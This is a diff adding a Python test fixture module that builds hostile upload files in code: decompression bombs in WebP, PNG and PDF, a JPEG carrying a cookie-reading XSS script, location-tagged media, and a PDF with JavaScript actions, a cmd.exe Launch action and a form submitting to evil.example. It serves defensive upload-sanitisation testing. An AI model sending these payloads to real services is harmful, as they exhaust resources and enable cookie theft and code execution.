@@ -1,0 +1,267 @@
+"""Hostile and metadata-laden files, built in code (nothing binary is committed).
+
+Used by the upload tests and by bench/upload_bomb.py.
+"""
+
+from __future__ import annotations
+
+import io
+import struct
+import zlib
+
+GPS_TEXT = "+07.7123-109.0123"
+XMP_UUID = bytes.fromhex("BE7ACFCB97A942E89C71999491E3AFAC")
+SCRIPT = b"<html><body><script>document.title='XSS:'+document.cookie</script></body></html>"
+
+
+def xmp_packet(text: str = GPS_TEXT) -> bytes:
+    return (
+        '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
+        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
+        'xmlns:exif="http://ns.adobe.com/exif/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/" '
+        f'exif:GPSLatitude="{text}" dc:creator="Siti Pelapor"/></rdf:RDF></x:xmpmeta><?xpacket end="w"?>'
+    ).encode()
+
+
+# --- Images ------------------------------------------------------------------------
+
+
+class _Bits:
+    """An LSB-first bit writer, as the WebP lossless (VP8L) bitstream wants it."""
+
+    def __init__(self) -> None:
+        self.value = 0
+        self.length = 0
+
+    def put(self, value: int, width: int) -> None:
+        self.value |= (value & ((1 << width) - 1)) << self.length
+        self.length += width
+
+    def to_bytes(self) -> bytes:
+        return self.value.to_bytes((self.length + 7) // 8, "little")
+
+
+def webp_bomb(width: int = 13000, height: int = 13000, rgb: tuple[int, int, int] = (200, 30, 30)) -> bytes:
+    """A valid lossless WebP of one colour: a few dozen bytes that decode to width × height pixels.
+
+    Every prefix code has a single symbol, so each pixel costs zero bits in the stream.
+    """
+    bits = _Bits()
+    bits.put(width - 1, 14)
+    bits.put(height - 1, 14)
+    bits.put(0, 1)  # alpha not used
+    bits.put(0, 3)  # version 0
+    bits.put(0, 1)  # no transform
+    bits.put(0, 1)  # no colour cache
+    bits.put(0, 1)  # no meta prefix codes
+    for symbol in (rgb[1], rgb[0], rgb[2], 255, 0):  # green, red, blue, alpha, distance
+        bits.put(1, 1)  # a simple code
+        bits.put(0, 1)  # with one symbol
+        bits.put(1, 1)  # of eight bits
+        bits.put(symbol, 8)
+    payload = b"\x2f" + bits.to_bytes()
+    chunk = b"VP8L" + struct.pack("<I", len(payload)) + payload + b"\x00" * (len(payload) % 2)
+    return b"RIFF" + struct.pack("<I", 4 + len(chunk)) + b"WEBP" + chunk
+
+
+def jpeg_with_script(size=(32, 24)) -> bytes:
+    """A real JPEG whose comment segment is an HTML page with a script."""
+    from PIL import Image
+
+    out = io.BytesIO()
+    Image.new("RGB", size, (30, 90, 160)).save(out, "JPEG", comment=SCRIPT)
+    return out.getvalue()
+
+
+def jpeg_with_location(size=(40, 30)) -> bytes:
+    """A JPEG with EXIF (camera, GPS), XMP (GPS, creator) and a comment."""
+    from PIL import Image
+
+    exif = Image.Exif()
+    exif[0x010F] = "PhoneMaker"
+    exif[0x0110] = "Model X"
+    exif[0x8825] = {1: "S", 2: (7.0, 42.0, 44.0), 3: "E", 4: (109.0, 0.0, 44.0)}
+    out = io.BytesIO()
+    Image.new("RGB", size, (10, 120, 40)).save(
+        out, "JPEG", exif=exif.tobytes(), xmp=xmp_packet(), comment=b"Rumah Siti Pelapor"
+    )
+    return out.getvalue()
+
+
+def _png_chunk(kind: bytes, data: bytes) -> bytes:
+    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+
+
+def _zeros_deflated(size: int) -> bytes:
+    compressor = zlib.compressobj(9)
+    block = bytes(1 << 20)
+    parts = [compressor.compress(block) for _ in range(size >> 20)]
+    return b"".join(parts) + compressor.flush()
+
+
+def png_idat_bomb(inflated: int = 1 << 30) -> bytes:
+    """A 1000 × 1000 grey PNG whose image data stream inflates to `inflated` bytes (1 GiB by default)."""
+    header = struct.pack(">IIBBBBB", 1000, 1000, 8, 0, 0, 0, 0)
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + _png_chunk(b"IHDR", header)
+        + _png_chunk(b"IDAT", _zeros_deflated(inflated))
+        + _png_chunk(b"IEND", b"")
+    )
+
+
+def png_text_bomb(inflated: int = 1 << 30) -> bytes:
+    """An 8 × 8 PNG with a compressed text chunk that inflates to `inflated` bytes."""
+    from PIL import Image
+
+    out = io.BytesIO()
+    Image.new("L", (8, 8), 128).save(out, "PNG")
+    data = out.getvalue()
+    ztxt = _png_chunk(b"zTXt", b"Comment\x00\x00" + _zeros_deflated(inflated))
+    return data[:33] + ztxt + data[33:]  # right after IHDR
+
+
+# --- PDF ---------------------------------------------------------------------------
+
+
+def _image_page_pdf(image_stream_kwargs: dict, raw: bytes, *, author: str = "", metadata: bool = False) -> bytes:
+    import pikepdf
+    from pikepdf import Dictionary, Name
+
+    pdf = pikepdf.new()
+    pdf.add_blank_page(page_size=(200, 150))
+    page = pdf.pages[0]
+    image = pikepdf.Stream(pdf, raw)
+    image.Type = Name.XObject
+    image.Subtype = Name.Image
+    for key, value in image_stream_kwargs.items():
+        image[Name("/" + key)] = value
+    if metadata:
+        image.Metadata = pikepdf.Stream(pdf, xmp_packet(), Type=Name.Metadata, Subtype=Name.XML)
+        pdf.Root.Metadata = pikepdf.Stream(pdf, xmp_packet(), Type=Name.Metadata, Subtype=Name.XML)
+    page.Resources = Dictionary(XObject=Dictionary(Im0=image))
+    page.Contents = pdf.make_stream(b"q 200 0 0 150 0 0 cm /Im0 Do Q")
+    if author:
+        pdf.docinfo["/Author"] = author
+    out = io.BytesIO()
+    pdf.save(out)
+    return out.getvalue()
+
+
+def pdf_with_located_photo() -> bytes:
+    """A PDF showing jpeg_with_location() as a DCTDecode image, with XMP on the image and the catalog."""
+    from pikepdf import Name
+
+    jpeg = jpeg_with_location()
+    return _image_page_pdf(
+        {"Width": 40, "Height": 30, "ColorSpace": Name.DeviceRGB, "BitsPerComponent": 8, "Filter": Name.DCTDecode},
+        jpeg,
+        author="Siti Pelapor",
+        metadata=True,
+    )
+
+
+def pdf_with_huge_image(width: int = 60000, height: int = 60000) -> bytes:
+    """A PDF whose one image claims width × height pixels (a few bytes of Flate data)."""
+    from pikepdf import Name
+
+    return _image_page_pdf(
+        {
+            "Width": width,
+            "Height": height,
+            "ColorSpace": Name.DeviceGray,
+            "BitsPerComponent": 8,
+            "Filter": Name.FlateDecode,
+        },
+        zlib.compress(bytes(4096)),
+    )
+
+
+def pdf_flate_bomb(inflated: int = 1 << 30) -> bytes:
+    """A one-page PDF whose page content stream inflates to `inflated` bytes of zeros."""
+    import pikepdf
+    from pikepdf import Name
+
+    pdf = pikepdf.new()
+    pdf.add_blank_page(page_size=(200, 150))
+    stream = pikepdf.Stream(pdf, _zeros_deflated(inflated))
+    stream.Filter = Name.FlateDecode
+    pdf.pages[0].Contents = stream
+    out = io.BytesIO()
+    pdf.save(out, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
+    return out.getvalue()
+
+
+JS = "app.alert('pdf-js-ran')"
+
+
+def pdf_with_scripts() -> bytes:
+    """A PDF with JavaScript and other active content in every place a viewer looks for it."""
+    import pikepdf
+    from pikepdf import Array, Dictionary, Name, String
+
+    pdf = pikepdf.new()
+    pdf.add_blank_page(page_size=(200, 150))
+    page = pdf.pages[0]
+
+    def js(tag: str):
+        return Dictionary(S=Name.JavaScript, JS=String(f"{JS}; // {tag}"))
+
+    pdf.Root.OpenAction = js("open")
+    pdf.Root.AA = Dictionary(WC=js("will-close"))
+    page.obj.AA = Dictionary(O=js("page-open"), C=js("page-close"))
+    embedded = pikepdf.Stream(pdf, b"secret attachment", Type=Name.EmbeddedFile)
+    filespec = Dictionary(Type=Name.Filespec, F=String("lampiran.txt"), EF=Dictionary(F=embedded))
+    pdf.Root.Names = Dictionary(
+        JavaScript=Dictionary(Names=Array([String("doc"), js("name-tree")])),
+        EmbeddedFiles=Dictionary(Names=Array([String("lampiran.txt"), filespec])),
+    )
+    uri = Dictionary(S=Name.URI, URI=String("https://example.org/"), Next=Array([js("next-chain")]))
+    link_ok = pdf.make_indirect(
+        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 50, 20]), A=uri, T=String("Siti Pelapor"))
+    )
+    link_js = pdf.make_indirect(
+        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 30, 50, 50]), A=js("link"))
+    )
+    launch = pdf.make_indirect(
+        Dictionary(
+            Type=Name.Annot,
+            Subtype=Name.Link,
+            Rect=Array([60, 0, 100, 20]),
+            A=Dictionary(S=Name.Launch, F=String("cmd.exe")),
+        )
+    )
+    attachment = pdf.make_indirect(
+        Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([110, 0, 130, 20]), FS=filespec)
+    )
+    field = pdf.make_indirect(
+        Dictionary(
+            Type=Name.Annot,
+            Subtype=Name.Widget,
+            FT=Name.Tx,
+            T=String("nama"),
+            Rect=Array([0, 60, 100, 80]),
+            AA=Dictionary(K=js("keystroke")),
+            A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example/")),
+        )
+    )
+    page.obj.Annots = Array([link_ok, link_js, launch, attachment, field])
+    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=pikepdf.Stream(pdf, b"<xdp><script>x</script></xdp>"))
+    out = io.BytesIO()
+    pdf.save(out)
+    return out.getvalue()
+
+
+# --- MP4 ---------------------------------------------------------------------------
+
+
+def mp4_box(kind: bytes, payload: bytes) -> bytes:
+    return struct.pack(">I4s", 8 + len(payload), kind) + payload
+
+
+def mp4_with_xmp(text: str = GPS_TEXT) -> bytes:
+    """ftyp, a top-level XMP uuid box (GPS, creator), moov with a track-level one and udta, then mdat."""
+    xmp = mp4_box(b"uuid", XMP_UUID + xmp_packet(text))
+    track = mp4_box(b"trak", mp4_box(b"tkhd", bytes(84)) + mp4_box(b"uuid", XMP_UUID + xmp_packet(text)))
+    moov = mp4_box(b"moov", mp4_box(b"mvhd", bytes(100)) + track + mp4_box(b"udta", mp4_box(b"\xa9xyz", text.encode())))
+    return mp4_box(b"ftyp", b"isom\x00\x00\x02\x00isommp42") + xmp + moov + mp4_box(b"mdat", b"FRAMEDATA" * 10)
